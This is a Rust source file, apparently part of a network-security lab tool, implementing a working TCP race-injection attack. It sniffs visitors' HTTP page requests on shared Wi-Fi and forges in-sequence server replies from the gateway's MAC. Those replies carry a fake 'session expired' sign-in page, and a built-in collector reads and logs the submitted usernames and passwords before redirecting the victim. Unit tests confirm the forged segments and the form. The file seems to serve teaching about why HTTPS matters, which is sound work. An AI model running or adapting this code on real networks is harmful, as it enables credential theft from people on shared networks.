//! Packet-level race injection (`inject --race`), with pnet: the intruder is a fellow
//! guest on the Wi-Fi. It sees every frame (the guest LAN is a hub) but cannot block
//! anything, so it forges the site's answer with the right sequence numbers and races the
//! real server. The visitor's TCP takes whichever bytes arrive first at that sequence
//! number; the real answer then looks like a retransmission and is dropped.
//!
//! Over HTTP a won race puts the intruder's page on the screen: what a real attacker sends,
//! a look-alike sign-in page ("your session has expired") whose form posts to the guest
//! itself, where a small collector reads the password and sends the visitor back to the
//! site. Over HTTPS the forged bytes are not a valid TLS record: the visitor's TLS rejects
//! them and aborts.

use std::collections::HashSet;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use etherparse::{NetSlice, PacketBuilder, SlicedPacket, TransportSlice};
use pnet::datalink::{self, Channel};

use super::{Act, Interception};
use crate::analysis::capture::live::LiveCapture;

/// A request seen on the LAN that deserves a forged answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    pub client_mac: [u8; 6],
    pub gateway_mac: [u8; 6],
    pub client: SocketAddrV4,
    pub server: SocketAddrV4,
    /// The server's next sequence number (the request's ACK).
    pub seq: u32,
    /// What the server acknowledges (request's sequence number + length).
    pub ack: u32,
    pub what: String,
    /// The page asked for, as `http://host/path` (where the collector sends the visitor back).
    pub page: Option<String>,
}

/// Whether a frame is a visitor's request worth racing: an HTTP page request to port 80,
/// or encrypted application data to port 443. Pure.
pub fn target(frame: &[u8]) -> Option<Target> {
    let p = SlicedPacket::from_ethernet(frame).ok()?;
    let Some(etherparse::LinkSlice::Ethernet2(eth)) = &p.link else { return None };
    let Some(NetSlice::Ipv4(ip)) = &p.net else { return None };
    let Some(TransportSlice::Tcp(tcp)) = &p.transport else { return None };
    let payload = tcp.payload();
    if payload.is_empty() || !tcp.ack() {
        return None;
    }
    let (what, page) = match tcp.destination_port() {
        80 => {
            let mut headers = [httparse::EMPTY_HEADER; 32];
            let mut req = httparse::Request::new(&mut headers);
            req.parse(payload).ok()?;
            let path = req.path?;
            if req.method != Some("GET") {
                return None;
            }
            // Pages only: a forged stylesheet or script would show nothing.
            if path.split('?').next().and_then(|p| p.rsplit('/').next()).is_some_and(|last| last.contains('.')) {
                return None;
            }
            let host = req
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case("host"))
                .and_then(|h| std::str::from_utf8(h.value).ok());
            (format!("GET {}", crate::analysis::findings::mask_url(path)), host.map(|h| format!("http://{h}{path}")))
        }
        443 if payload[0] == 23 => ("TLS application data".to_string(), None),
        _ => return None,
    };
    Some(Target {
        client_mac: eth.source(),
        gateway_mac: eth.destination(),
        client: SocketAddrV4::new(ip.header().source_addr(), tcp.source_port()),
        server: SocketAddrV4::new(ip.header().destination_addr(), tcp.destination_port()),
        seq: tcp.acknowledgment_number(),
        ack: tcp.sequence_number().wrapping_add(payload.len() as u32),
        what,
        page,
    })
}

/// The title of the forged page (so reports can tell it from the site's own pages).
pub const FORGED_TITLE: &str = "Sign in to clinic.test";

/// The forged page: the advertisement, and a look-alike sign-in form that posts to the
/// attacker's `collector`, then back to the page that was asked for.
pub fn forged_page(ad: &str, collector: SocketAddrV4, back_to: &str) -> String {
    let esc = |s: &str| s.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{FORGED_TITLE}</title></head><body>{ad}\
<h1>clinic.test</h1><p>Your session has expired. Please sign in again to continue.</p>\
<form method=\"post\" action=\"http://{collector}/login\"><input type=\"hidden\" name=\"next\" value=\"{}\">\
<label>Username <input name=\"username\"></label> <label>Password <input name=\"password\" type=\"password\"></label> \
<button>Sign in</button></form><!-- forged by another guest on the Wi-Fi: the form posts to that guest --></body></html>\n",
        esc(back_to)
    )
}

/// Payload bytes per forged segment (fits a 1,500-byte MTU with IPv4 and TCP headers).
const SEGMENT: usize = 1400;

/// The forged answer: from the server's address and the gateway's MAC, in sequence, as
/// many segments as it takes; the last one closes the connection.
pub fn forge(t: &Target, ad: &str, collector: SocketAddrV4) -> Vec<Vec<u8>> {
    let body = forged_page(ad, collector, t.page.as_deref().unwrap_or("/"));
    let payload = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let chunks: Vec<&[u8]> = payload.as_bytes().chunks(SEGMENT).collect();
    let mut seq = t.seq;
    let mut frames = Vec::with_capacity(chunks.len());
    for (i, c) in chunks.iter().enumerate() {
        let b = PacketBuilder::ethernet2(t.gateway_mac, t.client_mac)
            .ipv4(t.server.ip().octets(), t.client.ip().octets(), 64)
            .tcp(t.server.port(), t.client.port(), seq, 65535)
            .ack(t.ack)
            .psh();
        let b = if i + 1 == chunks.len() { b.fin() } else { b };
        let mut v = Vec::with_capacity(c.len() + 64);
        b.write(&mut v, c).expect("writing to a Vec");
        frames.push(v);
        seq = seq.wrapping_add(c.len() as u32);
    }
    frames
}

/// The collector behind the forged form: reads each sign-in it receives (one request per
/// connection, at most 16 KiB, 5 s), reports what it learned, and sends the visitor back
/// to the page it had asked for. Runs until `stop`.
fn collect(listener: std::net::TcpListener, reveal: bool, stop: &AtomicBool, done: &AtomicBool) {
    use std::io::{Read, Write};
    let _ = listener.set_nonblocking(true);
    while !stop.load(Ordering::SeqCst) && !done.load(Ordering::SeqCst) {
        let (mut sock, peer) = match listener.accept() {
            Ok(x) => x,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(20));
                continue;
            }
            Err(_) => {
                // Out of descriptors or the like: back off instead of spinning.
                std::thread::sleep(Duration::from_millis(200));
                continue;
            }
        };
        let _ = sock.set_nonblocking(false);
        let _ = sock.set_read_timeout(Some(Duration::from_secs(5)));
        let mut buf = Vec::new();
        let mut chunk = [0u8; 4096];
        let parsed = loop {
            match sock.read(&mut chunk) {
                Ok(0) | Err(_) => break None,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
            if buf.len() > 16 << 10 {
                break None;
            }
            let mut headers = [httparse::EMPTY_HEADER; 32];
            let mut req = httparse::Request::new(&mut headers);
            match req.parse(&buf) {
                Ok(httparse::Status::Complete(head)) => {
                    let len = req
                        .headers
                        .iter()
                        .find(|h| h.name.eq_ignore_ascii_case("content-length"))
                        .and_then(|h| std::str::from_utf8(h.value).ok()?.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    if buf.len() >= head + len.min(16 << 10) {
                        let mut b =
                            http::Request::builder().method(req.method.unwrap_or("GET")).uri(req.path.unwrap_or("/"));
                        for h in req.headers.iter() {
                            b = b.header(h.name, h.value);
                        }
                        break b
                            .body(())
                            .ok()
                            .map(|r| (r.into_parts().0, buf[head..head + len.min(buf.len() - head)].to_vec()));
                    }
                }
                Ok(httparse::Status::Partial) => {}
                Err(_) => break None,
            }
        };
        let Some((parts, body)) = parsed else { continue };
        let next = form_urlencoded::parse(&body)
            .find(|(k, _)| k == "next")
            .map(|(_, v)| v.into_owned())
            .filter(|v| v.starts_with("http://") || v.starts_with("https://"));
        let local = sock.local_addr().map(|a| a.to_string()).unwrap_or_default();
        let mut o = Interception {
            kind: super::Kind::Race,
            client: peer.to_string(),
            server: local,
            method: Some(parts.method.to_string()),
            url: Some(crate::analysis::findings::mask_url(&parts.uri.to_string())),
            outcome: Act::Collected,
            ..Interception::default()
        };
        o.learned = super::http::learned(&parts, &body, &o, reveal);
        o.detail = format!("the forged sign-in form posted here: {} thing(s) learned", o.learned.len());
        let location = next.unwrap_or_else(|| "/".into());
        let _ = write!(
            sock,
            "HTTP/1.1 303 See Other\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        if let Ok(line) = serde_json::to_string(&o) {
            println!("{line}");
        }
    }
}

/// Watches `interface` and races every target until `stop` is set.
pub fn run(
    interface: &str,
    victim: Option<Ipv4Addr>,
    ad: &str,
    reveal: bool,
    ready: Option<&std::path::Path>,
    stop: &AtomicBool,
) -> anyhow::Result<()> {
    let iface = datalink::interfaces()
        .into_iter()
        .find(|i| i.name == interface)
        .with_context(|| format!("no interface {interface}"))?;
    // Frames come from the same live source as the sniffer's (libpcap), filtered to what
    // can be raced; pnet sends the forged ones.
    let mut frames = LiveCapture::open(interface, 65535, Some("tcp and (dst port 80 or dst port 443)"))?;
    let cfg = datalink::Config { read_timeout: Some(Duration::from_millis(200)), ..Default::default() };
    let mut tx = match datalink::channel(&iface, cfg).context("opening a raw socket (needs CAP_NET_RAW)")? {
        Channel::Ethernet(tx, _) => tx,
        _ => bail!("unsupported channel type"),
    };
    let own = iface.ips.iter().find_map(|n| match n.ip() {
        std::net::IpAddr::V4(a) => Some(a),
        _ => None,
    });
    let own = own.with_context(|| format!("{interface} has no IPv4 address for the collector"))?;
    let collector = SocketAddrV4::new(own, 80);
    let listener =
        std::net::TcpListener::bind(collector).with_context(|| format!("binding the collector on {collector}"))?;
    eprintln!(
        "inject: racing on {interface} (a guest who can see but not block); forged sign-in form posts to {collector}"
    );
    crate::lab::proc::signal_ready(ready)?;
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| -> anyhow::Result<()> {
        scope.spawn(|| collect(listener, reveal, stop, &done));
        let r = race(&mut *tx, &mut frames, collector, victim, ad, stop);
        done.store(true, Ordering::SeqCst);
        r
    })
}

/// The racing loop proper.
fn race(
    tx: &mut dyn datalink::DataLinkSender,
    frames: &mut LiveCapture,
    collector: SocketAddrV4,
    victim: Option<Ipv4Addr>,
    ad: &str,
    stop: &AtomicBool,
) -> anyhow::Result<()> {
    let mut raced: HashSet<(SocketAddrV4, u32)> = HashSet::new();
    while !stop.load(Ordering::SeqCst) {
        let Some(frame) = frames.next(stop)? else { continue };
        let seen = Instant::now();
        let Some(t) = target(frame.data) else { continue };
        if victim.is_some_and(|v| *t.client.ip() != v) || !raced.insert((t.client, t.ack)) {
            continue;
        }
        let forged = forge(&t, ad, collector);
        let sent = forged.iter().try_for_each(|f| tx.send_to(f, None).unwrap_or(Ok(())));
        let o = Interception {
            kind: super::Kind::Race,
            client: t.client.to_string(),
            server: t.server.to_string(),
            url: Some(t.what.clone()),
            outcome: if sent.is_ok() { Act::Forged } else { Act::Failed },
            detail: match sent {
                Ok(()) => format!(
                    "forged answer to {} sent {} µs after seeing it, at seq {}; whether it won shows at the visitor",
                    t.what,
                    seen.elapsed().as_micros(),
                    t.seq
                ),
                Err(e) => e.to_string(),
            },
            bytes_to_client: forged.iter().map(|f| f.len() as u64).sum(),
            ..Interception::default()
        };
        if let Ok(line) = serde_json::to_string(&o) {
            println!("{line}");
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::synth::{Segment, tcp_frame};

    fn request(port: u16, payload: &[u8]) -> Vec<u8> {
        let s = Segment {
            from_client: true,
            seq: 1000,
            ack: 5000,
            syn: false,
            fin: false,
            rst: false,
            payload: payload.to_vec(),
        };
        tcp_frame("192.0.2.10:40000".parse().unwrap(), SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 10), port), &s)
    }

    #[test]
    fn forged_answer_continues_the_servers_sequence() {
        let req = request(80, b"GET /account HTTP/1.1\r\nHost: clinic.test\r\n\r\n");
        let t = target(&req).unwrap();
        assert_eq!((t.seq, t.ack, t.what.as_str()), (5000, 1000 + 44, "GET /account"));
        let frames = forge(&t, &"<div id=plainsight-ad>AD</div>".repeat(60), "192.0.2.20:80".parse().unwrap());
        assert!(frames.len() >= 2 && frames.iter().all(|f| f.len() <= 1514), "split into segments that fit the MTU");
        let p = SlicedPacket::from_ethernet(&frames[0]).unwrap();
        let Some(TransportSlice::Tcp(tcp)) = p.transport else { panic!() };
        assert_eq!((tcp.source_port(), tcp.destination_port()), (80, 40000));
        assert_eq!((tcp.sequence_number(), tcp.acknowledgment_number()), (5000, 1044));
        let mut page = String::new();
        let mut next_seq = 5000u32;
        for f in &frames {
            let Some(TransportSlice::Tcp(seg)) = SlicedPacket::from_ethernet(f).unwrap().transport else { panic!() };
            assert_eq!(seg.sequence_number(), next_seq, "segments continue each other");
            next_seq = next_seq.wrapping_add(seg.payload().len() as u32);
            page.push_str(&String::from_utf8_lossy(seg.payload()));
        }
        assert!(page.contains("plainsight-ad"));
        // A person sees a sign-in form; it posts to the guest, and back to the page asked for.
        let form = crate::lab::visitor::page::Page::read(&page);
        let f = form.sign_in_form().expect("a look-alike sign-in form");
        assert_eq!(f.action, "http://192.0.2.20:80/login");
        assert!(f.inputs.iter().any(|i| i.name == "next" && i.value == "http://clinic.test/account"));
        let Some(NetSlice::Ipv4(ip)) = p.net else { panic!() };
        assert_eq!(ip.header().source_addr(), Ipv4Addr::new(198, 51, 100, 10));
    }

    #[test]
    fn only_pages_and_tls_data_are_raced() {
        assert!(target(&request(80, b"GET /style.css HTTP/1.1\r\n\r\n")).is_none());
        assert!(target(&request(80, b"GET /x.js?v=1 HTTP/1.1\r\n\r\n")).is_none());
        assert!(target(&request(80, b"POST /login HTTP/1.1\r\n\r\n")).is_none());
        assert!(target(&request(443, &[23, 3, 3, 0, 1, 0])).is_some());
        assert!(target(&request(443, &[22, 3, 1, 0, 1, 0])).is_none());
        assert!(target(&request(22, b"SSH-2.0")).is_none());
    }
}
